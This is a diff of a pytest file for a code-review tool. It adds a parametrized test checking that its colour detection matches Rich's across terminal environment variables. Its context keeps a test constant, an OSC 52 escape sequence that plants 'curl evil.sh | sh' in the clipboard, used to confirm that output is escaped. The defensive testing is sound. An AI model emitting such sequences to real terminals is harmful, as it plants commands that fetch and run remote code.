@@ -7,6 +7,7 @@ drive the terminal (OSC 52, CSI, C1 controls, bidi overrides) printed escaped, n
 
 from __future__ import annotations
 
+import io
 import os
 import re
 import subprocess
@@ -16,6 +17,8 @@ from pathlib import Path
 import pexpect
 import pytest
 from rich.cells import cell_len
+
+from reviewbot.reporters.terminal import wants_color
 
 REVIEWBOT = Path(sys.executable).parent / "reviewbot"
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes "curl evil.sh | sh" to the clipboard
@@ -151,3 +154,37 @@ def test_the_plain_ascii_shortcut_of_escaping_changes_nothing_for_any_character(
         assert escape.printable(text) == escape._UNSAFE_IN_LINE_RE.sub(escape._escaped, text), hex(code)
         assert escape.printable_code(text) == escape._UNSAFE_IN_CODE_RE.sub(escape._escaped, text), hex(code)
     assert escape.printable("\x1b]52;c;ZXZpbA==\x07") == "\\x1b]52;c;ZXZpbA==\\x07"
+
+
+class _Stream(io.StringIO):
+    def __init__(self, tty: bool | None) -> None:
+        super().__init__()
+        self.tty = tty
+
+    def isatty(self) -> bool:
+        if self.tty is None:
+            raise ValueError("I/O operation on closed file")
+        return self.tty
+
+
+@pytest.mark.parametrize("tty", [True, False, None])
+@pytest.mark.parametrize("tty_compatible", [None, "0", "1", "x"])
+@pytest.mark.parametrize("force_color", [None, "", "1"])
+@pytest.mark.parametrize("no_color", [None, "1"])
+@pytest.mark.parametrize("term", [None, "dumb", "xterm-256color"])
+def test_wants_color_is_riches_decision_without_asking_rich_when_it_cannot_say_yes(
+    monkeypatch, tty, tty_compatible, force_color, no_color, term
+):
+    from rich.console import Console
+
+    for name, value in (("TTY_COMPATIBLE", tty_compatible), ("FORCE_COLOR", force_color), ("NO_COLOR", no_color),
+                        ("TERM", term)):
+        if value is None:
+            monkeypatch.delenv(name, raising=False)
+        else:
+            monkeypatch.setenv(name, value)
+    monkeypatch.delenv("JUPYTER_COLUMNS", raising=False)
+    stream = _Stream(tty)
+    console = Console(file=stream)
+    riches = console.is_terminal and console.color_system is not None and not console.no_color
+    assert wants_color(stream) == riches
